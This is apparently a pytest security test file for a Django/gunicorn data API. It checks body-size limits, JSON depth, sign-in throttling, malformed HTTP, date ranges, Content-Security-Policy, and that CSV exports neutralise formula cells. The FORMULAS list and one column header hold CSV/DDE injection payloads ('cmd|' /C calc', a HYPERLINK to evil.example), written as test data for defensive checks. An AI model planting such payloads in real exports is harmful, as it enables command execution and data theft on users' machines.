"""The HTTP edges (docs/security.md §6): every error in the contract's JSON shape, never an
HTML page or a 500 — bodies over the limit, JSON nested too deep, sign-in attempts past the
throttle, request lines and headers gunicorn refuses itself, dates out of range — plus CSV
downloads that no spreadsheet reads as formulas and a Content-Security-Policy on the API docs.

The first part runs in-process on PostgreSQL; the second against a real gunicorn (2 worker
processes, as ``make run``) on the embedded default: SQLite and the file-system broker.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pyarrow as pa  # type: ignore[import-untyped]
import pytest
import requests
from django.contrib.auth.models import User
from django.test import Client
from django.urls import resolve, reverse
from rest_framework.test import APIClient

from accounts.models import ApiToken
from accounts.throttles import SignInThrottle
from catalog.models import Catalog
from core import jobstate
from jobs import lifecycle
from jobs.models import Job, Session
from results import store
from sessions import statements
from tests.conftest import API, PASSWORD, assert_error, json_client
from tests.security.servers import Gunicorn, manage, server_env
from tests.worker_helpers import open_session, statement, wait_job

LIMIT = 2_621_440  # DATA_UPLOAD_MAX_MEMORY_SIZE (TESSERA_REQUEST_MAX_BYTES's default)
JSON_DEPTH = 32  # TESSERA_JSON_MAX_DEPTH's default


@pytest.fixture
def private_results(settings: Any, tmp_path: Path) -> None:
    """Results of jobs made here (not by a worker) in the test's own directory."""
    settings.RESULTS_DIR = tmp_path / "results"


def _padded_body(size: int) -> bytes:
    """A JSON object of exactly ``size`` bytes."""
    skeleton = b'{"sql": "SELECT 1", "padding": ""}'
    return skeleton[:-2] + b"x" * (size - len(skeleton)) + b'"}'


def _counts() -> tuple[int, int, int, int]:
    return (
        Session.objects.count(),
        Job.objects.count(),
        Catalog.objects.count(),
        ApiToken.objects.count(),
    )


# --- bodies over the limit ------------------------------------------------------------------


def _targets(client: APIClient) -> list[tuple[str, str]]:
    session = open_session(client)
    return [
        ("post", f"{API}/sessions"),
        ("post", f"{API}/sessions/{session}/statements"),
        ("patch", f"{API}/sessions/{session}"),
        ("post", f"{API}/catalogs"),
        ("post", f"{API}/auth/token"),
        ("post", f"{API}/auth/login"),
        ("post", f"{API}/saved-queries"),
        ("post", f"{API}/no/such/endpoint"),
        ("post", "/admin/login/"),  # not a DRF view
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("size", [LIMIT + 1, 3_000_000, 10_000_000])
def test_bodies_over_the_limit_are_413_before_anything_reads_them(
    alice_api: APIClient, size: int
) -> None:
    body = _padded_body(size)
    for method, url in _targets(alice_api):
        before = _counts()
        response = getattr(alice_api, method)(url, data=body, content_type="application/json")
        error = assert_error(response, 413, "PAYLOAD_TOO_LARGE", "larger than the server accepts")
        assert error["details"]["maximum"] == LIMIT, (url, error)
        assert _counts() == before, url  # nothing was made


@pytest.mark.django_db
def test_a_body_at_the_limit_is_read(alice_api: APIClient) -> None:
    before = _counts()
    body = b'{"properties": {"x": "' + b"y" * (LIMIT - 25) + b'"}}'
    assert len(body) == LIMIT
    response = alice_api.post(f"{API}/sessions", data=body, content_type="application/json")
    assert_error(response, 400, "VALIDATION_ERROR", "'x' cannot be set")
    assert _counts() == before


# --- JSON nested too deep ---------------------------------------------------------------------


def _nested_arrays(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def _nested_objects(depth: int) -> bytes:
    return b'{"a": ' * (depth - 1) + b"{}" + b"}" * (depth - 1)


DEEP_BODIES = {
    "arrays 33": _nested_arrays(JSON_DEPTH + 1),
    "objects 33": _nested_objects(JSON_DEPTH + 1),
    "arrays 100": _nested_arrays(100),
    "arrays 900": _nested_arrays(900),
    "arrays 100000": _nested_arrays(100_000),
    "objects 50000": _nested_objects(50_000),
    "mixed 5000": b'{"a": [' * 5000 + b"1" + b"]}" * 5000,
    "in properties": b'{"properties": {"result.max_rows": ' + _nested_arrays(200) + b"}}",
    "in sql": b'{"sql": ' + _nested_arrays(60) + b"}",
}


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(DEEP_BODIES))
def test_json_nested_too_deep_is_400_json_too_deep(alice_api: APIClient, name: str) -> None:
    body = DEEP_BODIES[name]
    session = open_session(alice_api)
    for url in (f"{API}/sessions", f"{API}/sessions/{session}/statements", f"{API}/catalogs"):
        before = _counts()
        response = alice_api.post(url, data=body, content_type="application/json")
        error = assert_error(response, 400, "JSON_TOO_DEEP", f"more than {JSON_DEPTH} levels")
        assert error["details"] == {"maximum": JSON_DEPTH}
        assert _counts() == before


@pytest.mark.django_db
def test_json_at_the_depth_limit_is_read(alice_api: APIClient) -> None:
    before = _counts()
    for body in (
        _nested_arrays(JSON_DEPTH),
        b'{"properties": ' + _nested_arrays(JSON_DEPTH - 1) + b"}",
    ):
        response = alice_api.post(f"{API}/sessions", data=body, content_type="application/json")
        assert_error(response, 400, "VALIDATION_ERROR")  # read, then refused for its shape
    assert _counts() == before


# --- sign-in throttling -----------------------------------------------------------------------


def _sign_in(client: APIClient, where: str, password: str, **extra: Any) -> Any:
    body = {"username": "alice", "password": password}
    return client.post(f"{API}/auth/{where}", body, **extra)


@pytest.mark.django_db
def test_sign_in_attempts_past_the_rate_are_429_with_retry_after(
    alice: User, settings: Any
) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = "3/min"
    client = json_client()
    assert _sign_in(client, "token", "wrong").status_code == 401
    assert _sign_in(client, "login", "wrong").status_code == 400  # the same count
    assert _sign_in(client, "token", PASSWORD).status_code == 200
    tokens = ApiToken.objects.count()
    for where, password in [("token", PASSWORD), ("login", PASSWORD), ("token", "wrong")]:
        response = _sign_in(client, where, password)
        error = assert_error(response, 429, "TOO_MANY_REQUESTS", "Too many attempts")
        seconds = int(response["Retry-After"])
        assert 1 <= seconds <= 60
        assert error["details"]["retry_after"] == seconds
        assert "token" not in response.json()
        assert "sessionid" not in response.cookies  # no login happened
    assert ApiToken.objects.count() == tokens
    # Another client address has its own count; a forged X-Forwarded-For is not one.
    assert _sign_in(client, "token", PASSWORD, REMOTE_ADDR="10.1.2.3").status_code == 200
    forged = _sign_in(client, "token", PASSWORD, HTTP_X_FORWARDED_FOR="10.9.9.9")
    assert forged.status_code == 429
    # Other endpoints are not throttled.
    assert client.get(f"{API}/health").status_code in (200, 503)


@pytest.mark.django_db
def test_the_throttle_window_passes(
    alice: User, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The throttle's own clock, so a slow machine cannot spread the three attempts over
    # more than the window; a window of a minute, because the cache entry of the counts
    # expires after the window in real time (a 1-second one expired on a loaded CI).
    now = [1_000_000.0]
    monkeypatch.setattr(SignInThrottle, "timer", lambda self: now[0])
    settings.TESSERA_AUTH_THROTTLE_RATE = "2/min"
    client = json_client()
    assert [_sign_in(client, "token", PASSWORD).status_code for _ in range(3)] == [200, 200, 429]
    now[0] += 55
    assert _sign_in(client, "token", PASSWORD).status_code == 429
    now[0] += 10
    assert _sign_in(client, "token", PASSWORD).status_code == 200


@pytest.mark.django_db
def test_no_rate_means_no_throttle(alice: User, settings: Any) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = None
    client = json_client()
    assert {_sign_in(client, "token", PASSWORD).status_code for _ in range(40)} == {200}


# --- the admin's login form (the same sign-in throttle) -------------------------------------


class AdminForm:
    """Django admin's login form as a browser uses it: CSRF enforced, token from the form."""

    def __init__(self, **extra: Any) -> None:
        self.client = Client(enforce_csrf_checks=True, **extra)
        self.token = self.show()

    def show(self) -> str:
        """GET the form (which is not a sign-in attempt); the CSRF token it sets."""
        response = self.client.get("/admin/login/?next=/admin/")
        assert response.status_code == 200
        assert b'name="password"' in response.content
        return str(self.client.cookies["csrftoken"].value)

    def sign_in(self, password: str, **extra: Any) -> Any:
        body = {
            "username": "admin",
            "password": password,
            "next": "/admin/",
            "csrfmiddlewaretoken": self.token,
        }
        return self.client.post("/admin/login/?next=/admin/", body, **extra)

    def signed_in(self) -> bool:
        return bool(self.client.get("/admin/").status_code == 200)


def _assert_throttled_page(response: Any) -> int:
    assert response.status_code == 429, response.content[:300]
    assert response["Content-Type"] == "text/html; charset=utf-8"
    seconds = int(response["Retry-After"])
    assert 1 <= seconds <= 60
    page = response.content.decode()
    assert "Too many sign-in attempts" in page
    assert f"Wait {seconds} seconds" in page
    assert 'href="/admin/login/?next=/admin/"' in page  # back to the form
    assert "sessionid" not in response.cookies
    assert "no-cache" in response["Cache-Control"]
    return seconds


def test_the_admin_login_is_the_throttled_view() -> None:
    assert reverse("admin:login") == "/admin/login/"
    assert resolve("/admin/login/").func.__name__ == "admin_login"


@pytest.mark.django_db
def test_admin_sign_in_attempts_past_the_rate_are_429(admin: User, settings: Any) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = "3/min"
    form = AdminForm()
    for _ in range(3):
        response = form.sign_in("wrong")
        assert response.status_code == 200  # the form again, with Django's error
        assert b"Please enter the correct username and password" in response.content
        form.show()  # showing the form is not an attempt
    # The fourth attempt is refused without looking at the (correct) password.
    _assert_throttled_page(form.sign_in(PASSWORD))
    admin.refresh_from_db()
    assert admin.last_login is None
    assert not form.signed_in()
    # A client that asks for JSON gets the contract's answer.
    response = form.sign_in(PASSWORD, HTTP_ACCEPT="application/json")
    error = assert_error(response, 429, "TOO_MANY_REQUESTS", "Too many attempts")
    assert error["details"]["retry_after"] == int(response["Retry-After"]) >= 1
    # The API's sign-in endpoints share the count, and another address has its own.
    assert_error(_sign_in(json_client(), "token", PASSWORD), 429, "TOO_MANY_REQUESTS")
    elsewhere = AdminForm(REMOTE_ADDR="10.1.2.3")
    assert elsewhere.sign_in(PASSWORD).status_code == 302
    assert elsewhere.signed_in()


@pytest.mark.django_db
def test_api_sign_in_attempts_count_against_the_admin_form(admin: User, settings: Any) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = "2/min"
    client = json_client()
    body = {"username": "admin", "password": "wrong"}
    assert client.post(f"{API}/auth/token", body).status_code == 401
    assert client.post(f"{API}/auth/login", body).status_code == 400
    form = AdminForm()
    _assert_throttled_page(form.sign_in(PASSWORD))
    assert not form.signed_in()


@pytest.mark.django_db
def test_a_correct_admin_sign_in_under_the_rate_works(admin: User, settings: Any) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = "3/min"
    form = AdminForm()
    assert form.sign_in("wrong").status_code == 200
    assert form.sign_in("wrong").status_code == 200
    response = form.sign_in(PASSWORD)  # the third attempt: still within the rate
    assert response.status_code == 302 and response["Location"] == "/admin/"
    assert form.signed_in()
    admin.refresh_from_db()
    assert admin.last_login is not None


@pytest.mark.django_db
def test_no_rate_means_no_admin_throttle(admin: User, settings: Any) -> None:
    settings.TESSERA_AUTH_THROTTLE_RATE = None
    form = AdminForm()
    assert {form.sign_in("wrong").status_code for _ in range(35)} == {200}
    assert form.sign_in(PASSWORD).status_code == 302


# --- CSV downloads ----------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-5",
    "+5",
    "=",
]
SAFE = ["safe", " =1+1", "a=b", "5-3", "", "'already quoted", "[1]", "{}"]


def _finished_job(session: Session, table: pa.Table, columns: list[dict[str, str]]) -> Job:
    """A query job run as a worker runs it: claim, write the Arrow result, finish."""
    sql = "SELECT * FROM t"
    plan = {"kind": "query", "action": "query", "needs_spark": True, "sql": sql, "args": {}}
    job = statements.submit_plan(session=session, sql=sql, plan=plan)
    lifecycle.transition(job.id, jobstate.CREATED, jobstate.RUNNING, worker="w")
    result = store.write_result(job.id, table, columns=columns, truncated=False)
    return lifecycle.transition(job.id, jobstate.RUNNING, jobstate.FINISHED, result=result)


def _csv_of(client: APIClient, job_id: Any) -> list[list[str]]:
    response: Any = client.get(f"{API}/jobs/{job_id}/result.csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.django_db
@pytest.mark.usefixtures("private_results")
def test_csv_cells_that_could_be_formulas_are_neutralised(alice_api: APIClient) -> None:
    texts = FORMULAS + SAFE
    count = len(texts)
    table = pa.table(
        {
            "=cmd|' /C calc'!A0": pa.array(texts, pa.string()),  # a header is a cell too
            "n": pa.array([-5] * count, pa.int64()),
            "x": pa.array([-1.5e-7] * count, pa.float64()),
            "inf": pa.array([float("-inf")] * count, pa.float64()),
            "d": pa.array([Decimal("-0.05")] * count, pa.decimal128(5, 2)),
            "raw": pa.array([b"\xfb\xef\xbe"] * count, pa.binary()),  # base64: "++++"
            "tags": pa.array([["=1+1"]] * count, pa.list_(pa.string())),
        }
    )
    columns = [
        {"name": name, "data_type": t}
        for name, t in zip(
            table.column_names,
            ["STRING", "BIGINT", "DOUBLE", "DOUBLE", "DECIMAL(5, 2)", "BINARY", "ARRAY<STRING>"],
            strict=True,
        )
    ]
    session = Session.objects.get(pk=open_session(alice_api))
    job = _finished_job(session, table, columns)
    rows = _csv_of(alice_api, job.id)
    assert rows[0] == ["'=cmd|' /C calc'!A0", "n", "x", "inf", "d", "raw", "tags"]
    cells = [row[0] for row in rows[1:]]
    assert cells[: len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert cells[len(FORMULAS) :] == SAFE
    for row in rows[1:]:
        # Numbers of numeric columns stay numbers; everything else that could start a
        # formula is text.
        assert row[1:] == ["-5", "-1.5e-07", "-Infinity", "-0.05", "'++++", '["=1+1"]']


@pytest.mark.spark
def test_csv_of_a_query_run_on_the_worker(
    transactional_db: None, security_worker: Any, alice_api: APIClient
) -> None:
    session = open_session(alice_api)
    job = statement(
        alice_api,
        session,
        "SELECT '=HYPERLINK(\"http://x\")' AS f, -5 AS n, '-5' AS s, "
        "CAST(-0.5 AS DECIMAL(3, 2)) AS d, '@x' AS `@at`",
    )
    done = wait_job(alice_api, job["id"], timeout=120)
    assert done["status"] == "FINISHED", done["error"]
    assert _csv_of(alice_api, job["id"]) == [
        ["f", "n", "s", "d", "'@at"],
        ['\'=HYPERLINK("http://x")', "-5", "'-5", "-0.50", "'@x"],
    ]


# --- dates out of range -----------------------------------------------------------------------

OUT_OF_RANGE = [
    ("created_after", "0001-01-01T00:00:00+14:00"),
    ("created_after", "0001-01-01T00:00:00+00:01"),
    ("created_after", "0001-01-01T00:00:00 14:00"),  # an unencoded '+' arrives as a space
    ("created_before", "9999-12-31T23:59:59-14:00"),
    ("created_before", "9999-12-31T23:59:59.999999-00:01"),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("field", "value"), OUT_OF_RANGE)
def test_instants_outside_the_utc_range_are_400(
    alice_api: APIClient, field: str, value: str
) -> None:
    error = assert_error(
        alice_api.get(f"{API}/jobs", {field: value}), 400, "VALIDATION_ERROR", "out of range"
    )
    assert error["details"]["field"] == field


@pytest.mark.django_db
def test_instants_at_the_edges_of_the_range_work(alice_api: APIClient) -> None:
    for field, value in [
        ("created_after", "0001-01-01T00:00:00-14:00"),
        ("created_after", "0001-01-01"),
        ("created_before", "9999-12-31T23:59:59+14:00"),
        ("created_before", "9999-12-31"),
    ]:
        response = alice_api.get(f"{API}/jobs", {field: value})
        assert response.status_code == 200, (field, value, response.content)


# --- the API docs' Content-Security-Policy ----------------------------------------------------


def _csp(response: Any) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    return {
        part.split()[0]: part.split()[1:] for part in (p.strip() for p in policy.split(";")) if part
    }


@pytest.mark.django_db
def test_the_api_docs_have_a_content_security_policy(anon_api: APIClient) -> None:
    page = anon_api.get(f"{API}/docs")
    assert page.status_code == 200
    policy = _csp(page)
    assert policy["script-src"] == ["'self'"]  # no inline script, no eval, no other origin
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["connect-src"] == ["'self'"]
    html = page.content.decode()
    scripts = re.findall(r"<script([^>]*)>", html)
    assert scripts and all("src=" in attributes for attributes in scripts), scripts
    start_up = re.search(r'<script src="([^"]*script[^"]*)"', html)
    assert start_up is not None
    script = anon_api.get(start_up.group(1))
    assert script.status_code == 200
    assert script["Content-Type"].startswith("application/javascript")
    assert "SwaggerUIBundle" in script.content.decode()


# --- a real gunicorn on the embedded default ------------------------------------------------

THROTTLE_RATE = 5


@pytest.fixture(scope="module")
def embedded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Gunicorn]:
    """gunicorn as ``make run`` starts it, on a fresh SQLite data dir, with alice and bob."""
    data = tmp_path_factory.mktemp("embedded")
    env = server_env(data / "data", {"TESSERA_AUTH_THROTTLE_RATE": f"{THROTTLE_RATE}/min"})
    manage(env, "migrate", "--noinput", "-v", "0")
    manage(
        env,
        "shell",
        "-c",
        "from django.contrib.auth.models import User; from accounts.tokens import token_create\n"
        f"for name in ('alice', 'bob'):\n"
        f"    token_create(user=User.objects.create_user(name, password={PASSWORD!r}), "
        f"key=name.ljust(40, '0'))",
    )
    server = Gunicorn(env, data)
    server.start()
    yield server
    server.stop()


def _auth(name: str) -> dict[str, str]:
    return {"Authorization": f"Token {name.ljust(40, '0')}"}


def _json_error(raw: bytes, status: int, code: str) -> dict[str, Any]:
    head, _, body = raw.partition(b"\r\n\r\n")
    status_line = head.split(b"\r\n", 1)[0].decode()
    assert status_line.startswith(f"HTTP/1.1 {status} "), raw[:300]
    assert b"content-type: application/json" in head.lower(), head
    assert b"<html" not in raw.lower()
    error = json.loads(body)["error"]
    assert error["code"] == code, error
    assert error["message"] and "Traceback" not in error["message"]
    return dict(error)


@pytest.mark.slow
def test_gunicorn_answers_its_own_refusals_in_json(embedded: Gunicorn) -> None:
    line = 8190  # webapp/gunicorn_conf.py's limit_request_line
    # A request line one byte too long, and a much longer one: 414 in the contract's shape.
    for length in (line + 1, 20_000, 1_000_000):
        path = "/api/v1/catalogs?q=" + "x" * (length - len("GET  HTTP/1.1") - 19)
        raw = embedded.raw(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
        error = _json_error(raw, 414, "REQUEST_LINE_TOO_LONG")
        assert "request line" in error["message"]
    # Just under: the app answers (401: no credentials), in JSON too.
    path = "/api/v1/catalogs?q=" + "x" * (line - len("GET  HTTP/1.1") - 19)
    assert len(f"GET {path} HTTP/1.1") <= line
    _json_error(
        embedded.raw(
            f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
        ),
        401,
        "NOT_AUTHENTICATED",
    )
    # Too many headers, a header too long: 431.
    many = "".join(f"X-H{i}: v\r\n" for i in range(101))
    raw = embedded.raw(f"GET /api/v1/health HTTP/1.1\r\nHost: x\r\n{many}\r\n".encode())
    _json_error(raw, 431, "REQUEST_HEADERS_TOO_LARGE")
    raw = embedded.raw(
        f"GET /api/v1/health HTTP/1.1\r\nHost: x\r\nX-Big: {'v' * 9000}\r\n\r\n".encode()
    )
    _json_error(raw, 431, "REQUEST_HEADERS_TOO_LARGE")
    # Not HTTP at all, a bad method, a bad header name, a bad version: 400.
    for garbage in (
        b"GARBAGE\r\n\r\n",
        b"G\x00T / HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET / HTTP/1.1\r\nBad Header: x\r\n\r\n",
        b"GET / HTTP/9.9\r\nHost: x\r\n\r\n",
    ):
        error = _json_error(embedded.raw(garbage), 400, "MALFORMED_REQUEST")
        assert error["message"] == "The request is not valid HTTP."
    # None of it reached the app or left an HTML page.
    assert "Traceback" not in embedded.log_tail()


@pytest.mark.slow
def test_gunicorn_bodies_and_json_depth(embedded: Gunicorn) -> None:
    url = f"{embedded.url}/api/v1/sessions"
    big = requests.post(url, data=_padded_body(3_000_000), headers=_auth("alice"), timeout=30)
    assert big.status_code == 413 and big.json()["error"]["code"] == "PAYLOAD_TOO_LARGE"
    deep = requests.post(
        url,
        data=_nested_arrays(100_000),
        headers={**_auth("alice"), "Content-Type": "application/json"},
        timeout=30,
    )
    assert deep.status_code == 400 and deep.json()["error"]["code"] == "JSON_TOO_DEEP"

    def chunks() -> Iterator[bytes]:  # no Content-Length: the limit still holds
        for _ in range(30):
            yield b"x" * 100_000

    chunked = requests.post(
        url,
        data=chunks(),
        headers={**_auth("alice"), "Content-Type": "application/json"},
        timeout=30,
    )
    assert chunked.status_code == 411 and chunked.json()["error"]["code"] == "LENGTH_REQUIRED"
    sessions = requests.get(url, headers=_auth("alice"), timeout=10).json()
    assert sessions["items"] == []  # nothing was made


@pytest.mark.slow
def test_gunicorn_dates_out_of_range_on_sqlite(embedded: Gunicorn) -> None:
    for field, value in OUT_OF_RANGE:
        response = requests.get(
            f"{embedded.url}/api/v1/jobs", params={field: value}, headers=_auth("bob"), timeout=10
        )
        assert response.status_code == 400, (field, value, response.text[:300])
        assert response.json()["error"]["details"]["field"] == field
    edge = requests.get(
        f"{embedded.url}/api/v1/jobs",
        params={"created_after": "0001-01-01T00:00:00-14:00"},
        headers=_auth("bob"),
        timeout=10,
    )
    assert edge.status_code == 200


@pytest.mark.slow
def test_gunicorn_docs_load_everything_they_reference(embedded: Gunicorn) -> None:
    page = requests.get(f"{embedded.url}/api/v1/docs", timeout=10)
    assert page.status_code == 200
    assert "script-src 'self';" in page.headers["Content-Security-Policy"]
    references = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    kinds = {".js": "javascript", ".css": "text/css", ".png": "image/png"}
    assert len(references) >= 4, references
    for reference in references:
        assert reference.startswith("/") and not reference.startswith("//"), reference
        asset = requests.get(embedded.url + reference.replace("&amp;", "&"), timeout=10)
        assert asset.status_code == 200, reference
        expected = next((v for k, v in kinds.items() if reference.endswith(k)), "javascript")
        assert expected in asset.headers["Content-Type"], (reference, asset.headers)


@pytest.mark.slow
def test_gunicorn_throttles_sign_in_across_its_processes(embedded: Gunicorn) -> None:
    """Both worker processes count in the same store: whichever process a connection
    reaches, exactly the rate's number of attempts get through in the window."""
    url = f"{embedded.url}/api/v1/auth/token"
    statuses = []
    pids: set[str] = set()
    attempts = 0
    while attempts < 40 and (attempts < 3 * THROTTLE_RATE or len(pids) < 2):
        attempts += 1
        response = requests.post(  # a new connection each time
            url,
            json={"username": "alice", "password": PASSWORD},
            headers={"Connection": "close"},
            timeout=30,
        )
        statuses.append(response.status_code)
        if response.status_code == 429:
            assert int(response.headers["Retry-After"]) >= 1
            assert response.json()["error"]["code"] == "TOO_MANY_REQUESTS"
        pids = {line.split(" ", 1)[0] for line in embedded.access_lines() if "/auth/token" in line}
    assert len(pids) == 2, "every attempt reached the same worker process"
    assert statuses.count(200) == THROTTLE_RATE, statuses
    assert set(statuses) == {200, 429}
